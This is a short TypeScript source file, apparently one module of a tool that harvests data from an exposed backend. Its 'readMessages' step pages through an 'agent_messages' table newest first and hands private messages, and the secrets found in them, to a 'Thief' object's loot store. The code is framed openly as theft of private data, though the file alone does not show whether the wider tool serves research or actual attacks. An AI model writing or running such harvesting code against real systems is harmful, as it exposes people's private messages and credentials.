import type { OpenBackend } from './open-backend.ts';
import { noLoot, readTable } from './read-table.ts';
import type { Thief } from './thief.ts';

/** Private messages, newest first, until a page holds nothing new; and the secrets in them. */
export function readMessages(thief: Thief, backend: OpenBackend): Promise<void> {
  return readTable(thief, backend, {
    step: 'read-messages',
    table: 'agent_messages',
    newestFirst: true,
    take: (rows) => ({ ...noLoot, ...thief.loot.takeMessages(rows) }),
    isEnough: ({ privateMessages }) => privateMessages === 0,
  });
}
